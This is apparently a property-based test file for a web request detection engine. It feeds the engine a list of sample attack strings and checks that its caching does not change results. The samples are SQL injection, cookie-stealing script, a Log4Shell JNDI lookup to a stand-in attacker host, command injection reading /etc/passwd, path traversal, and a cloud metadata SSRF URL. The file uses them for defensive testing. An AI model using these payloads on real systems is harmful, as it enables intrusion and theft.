import type { RequestView } from '@sallyport/core';
import type { Leaf } from '@sallyport/traffic';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createDetection } from './index.ts';

const REQUEST: RequestView = {
  method: 'GET',
  scheme: 'https',
  host: 'h',
  target: '/',
  path: '/',
  query: '',
  headers: [],
  body: { state: 'none', bytes: new Uint8Array() },
};

function leaf(value: string, changes: Partial<Leaf> = {}): Leaf {
  return { point: 'header.user-agent', kind: 'header', name: 'user-agent', value, isName: false, decoded: 0, ...changes };
}

const ATTACKS = [
  "' UNION SELECT card FROM vault--",
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a}',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
];

describe('remembered clean values', () => {
  it('a warm engine says exactly what a fresh one says', () => {
    const warm = createDetection();
    const text = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.constantFrom(...ATTACKS),
      fc.tuple(fc.string({ maxLength: 40 }), fc.constantFrom(...ATTACKS)).map((parts) => parts.join(' ')),
    );
    const leaves = fc.array(
      fc
        .tuple(text, fc.constantFrom('user-agent', 'referer', 'x-a'))
        .map(([value, name]) => leaf(value, { name, point: `header.${name}` })),
      { maxLength: 6 },
    );
    fc.assert(
      fc.property(leaves, (given) => {
        const first = warm.inspect(given, REQUEST, null);
        expect(warm.inspect(given, REQUEST, null)).toEqual(first);
        expect(createDetection().inspect(given, REQUEST, null)).toEqual(first);
      }),
      { numRuns: 60 },
    );
  });

  it('a value that is clean in one header is still read in another place', () => {
    const detection = createDetection();
    const value = 'https://169.254.169.254/latest/meta-data/';
    const inReferer = detection.inspect([leaf(value, { name: 'referer', point: 'header.referer' })], REQUEST, null);
    const inQuery = leaf(value, { kind: 'query', name: 'url', point: 'query.url' });
    expect(inReferer.classes).toEqual(
      createDetection().inspect([leaf(value, { name: 'referer', point: 'header.referer' })], REQUEST, null).classes,
    );
    expect(detection.inspect([inQuery], REQUEST, null).classes).toContain('ssrf');
  });

  it('forgets instead of growing', () => {
    const detection = createDetection();
    for (let index = 0; index < 10_000; index++) detection.inspect([leaf(`Mozilla/5.0 client ${index}`)], REQUEST, null);
    expect(detection.inspect([leaf(ATTACKS[0]!)], REQUEST, null).classes).toContain('sqli');
  });
});
